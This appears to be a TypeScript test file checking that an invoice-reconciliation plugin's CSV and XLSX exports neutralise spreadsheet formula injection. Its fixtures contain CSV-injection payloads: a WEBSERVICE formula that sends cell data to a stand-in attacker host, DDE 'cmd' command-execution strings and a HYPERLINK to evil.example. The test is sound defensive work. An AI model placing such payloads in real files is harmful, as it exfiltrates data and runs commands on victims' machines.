/**
 * Issue 21, medium: the reconciliation CSV export let `+1…` and `-1…` formulas through
 * (`-1+WEBSERVICE(...)`). Every text cell starting with = + - @ TAB or CR is now neutralised
 * (a single quote in front, the field quoted); numbers, and text that is exactly a number, stay.
 */
import JSZip from 'jszip';
import reconciliation from '../../../plugins/invoice-reconciliation/server';
import { startWithTwoUsers, type TestServer, type TestUser } from '../../support/server';
import { connectorDeclarations } from '../connections/fixtures/connector-declarations';

const COMPARE = '/api/platform/invoice_reconciliation/comparison';
const EXPORT = '/api/plugins/invoice-reconciliation/export';
const b64 = (s: string) => Buffer.from(s).toString('base64');

const PO = 'PO Number,Vendor,Description,Qty,Unit Price,Total\nPO-1,Acme Ltd,Bolts,10,2.50,25.00\n';
/** invoice lines whose purchase orders do not exist: each lands in the unmatched table with its vendor and description */
const INV = [
  'Invoice Number,PO Number,Vendor,Description,Qty,Unit Price,Total',
  'I-1,PO-1,Acme Ltd,Bolts,10,2.50,25.00',
  'I-2,PO-7,"-1+WEBSERVICE(""http://evil.example/?""&A1)",+1+cmd|\' /C calc\'!A0,1,2.00,2.00',
  'I-3,PO-8,@SUM(1+1)*cmd|\' /C calc\'!A0,"=HYPERLINK(""http://evil.example"";""click"")",1,3.00,3.00',
  'I-4,-5,Tabbed Ltd,Return,1,-4.00,-4.00',
  'I-5,PO-9,Plain Ltd,-12.50,1,1.00,1.00',
].join('\n');

describe('d2: the reconciliation export neutralises formulas (OWASP CSV injection)', () => {
  let server: TestServer, ann: TestUser;
  let side: unknown;
  beforeAll(async () => {
    ({
      server,
      users: [ann],
    } = await startWithTwoUsers({ plugins: [connectorDeclarations, reconciliation] }));
    const compared = await server.call('POST', COMPARE, {
      token: ann.access,
      body: { combination_id: 10, file1_name: 'invoices.csv', file1_binary: b64(INV), file2_name: 'orders.csv', file2_binary: b64(PO) },
    });
    expect(compared.status).toBe(200);
    side = compared.body.default;
    // the reader trims cells, but the export route takes the result the browser sends: a TAB and a CR put there
    const unmatched = (side as { unmatched_records: Array<{ key: string; vendor: string; description: string }> }).unmatched_records;
    const row = unmatched.find((u) => u.key === '-5')!;
    row.vendor = '\tTabbed Ltd';
    row.description = '\rReturn';
  });
  afterAll(() => server?.close());

  it('writes the unmatched table with every hostile cell quoted and prefixed, numbers left as numbers (exact bytes)', async () => {
    const res = await server.call('POST', EXPORT, { token: ann.access, body: { format: 'csv', table: 'unmatched', side: 'default', result: side } });
    expect(res.status).toBe(200);
    const text = Buffer.from(res.body.data, 'base64').toString('utf8');
    expect(text.split('\r\n')).toEqual([
      '\ufeffSide,Key,Row,Vendor,Description,Quantity,Unit price,Total,Reason',
      `invoice,PO-7,3,"'-1+WEBSERVICE(""http://evil.example/?""&A1)","'+1+cmd|' /C calc'!A0",1,2,2,"No purchase order with PO Number ""PO-7""."`,
      `invoice,PO-8,4,"'@SUM(1+1)*cmd|' /C calc'!A0","'=HYPERLINK(""http://evil.example"";""click"")",1,3,3,"No purchase order with PO Number ""PO-8""."`,
      // a key that is exactly a number and the negative amounts stay numbers
      `invoice,-5,5,"'\tTabbed Ltd","'\rReturn",1,-4,-4,"No purchase order with PO Number ""-5""."`,
      'invoice,PO-9,6,Plain Ltd,-12.50,1,1,1,"No purchase order with PO Number ""PO-9""."',
    ]);
  });

  it('writes the XLSX cells as text (shared strings), never as formulas', async () => {
    const res = await server.call('POST', EXPORT, { token: ann.access, body: { format: 'xlsx', side: 'default', result: side } });
    const zip = await JSZip.loadAsync(Buffer.from(res.body.data, 'base64'));
    const sheets = await Promise.all(
      Object.keys(zip.files)
        .filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
        .map((n) => zip.file(n)!.async('string')),
    );
    for (const xml of sheets) expect(xml).not.toMatch(/<f[ >]/);
    const strings = await zip.file('xl/sharedStrings.xml')!.async('string');
    expect(strings).toContain('<t>-1+WEBSERVICE(&quot;http://evil.example/?&quot;&amp;A1)</t>');
    expect(strings).toContain('<t>=HYPERLINK(&quot;http://evil.example&quot;;&quot;click&quot;)</t>');
  });
});
